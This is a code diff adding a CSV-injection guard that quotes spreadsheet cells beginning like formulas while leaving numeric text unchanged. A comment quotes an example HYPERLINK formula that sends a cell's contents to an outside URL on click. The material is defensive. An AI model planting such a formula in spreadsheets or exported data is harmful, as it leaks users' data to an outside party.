@@ -290,3 +290,21 @@ def _significant(value: float, digits: int) -> float:
     if value == 0:
         return 0.0
     return round(value, digits - 1 - math.floor(math.log10(abs(value))))
+
+
+#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection"): a claim's
+#: speaker ``=HYPERLINK("http://…?x="&A1, "click")`` sent the sheet's A1 away on a click.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert(value: Any) -> Any:
+    """A CSV cell no spreadsheet runs: a text that starts like a formula gets a leading
+    ``'`` (which spreadsheets show as text); numbers, and texts that read as numbers
+    (``-35.5``), are left as they are."""
+    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
+        return value
+    try:
+        float(value.replace(",", ""))
+    except ValueError:
+        return "'" + value
+    return value
